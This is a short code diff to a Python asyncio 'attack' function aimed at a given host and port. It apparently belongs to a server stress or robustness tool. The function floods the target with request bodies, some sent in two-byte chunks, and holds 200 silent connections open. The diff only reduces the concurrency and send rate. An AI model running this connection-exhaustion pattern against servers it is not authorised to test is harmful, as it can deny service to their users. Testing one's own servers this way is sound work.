@@ -81,7 +81,7 @@ def bodies() -> list[bytes]:
 
 
 async def attack(host: str, port: int) -> None:
-    """Send them for ever, four at a time, whole and in chunks of two bytes, and hold connections that say nothing."""
+    """Send them for ever, two at a time, whole and in chunks of two bytes, and hold connections that say nothing."""
     turns = itertools.cycle(bodies())
 
     async def send() -> None:
@@ -103,10 +103,10 @@ async def attack(host: str, port: int) -> None:
                 writer.close()
             except (ConnectionError, TimeoutError, OSError) as error:
                 sys.stdout.write(f"{type(error).__name__}\n")
-            await asyncio.sleep(0.2)
+            await asyncio.sleep(1)
 
     idle = [await asyncio.open_connection(host, port) for _ in range(200)]
-    await asyncio.gather(*(send() for _ in range(4)))
+    await asyncio.gather(*(send() for _ in range(2)))
     del idle
 
 
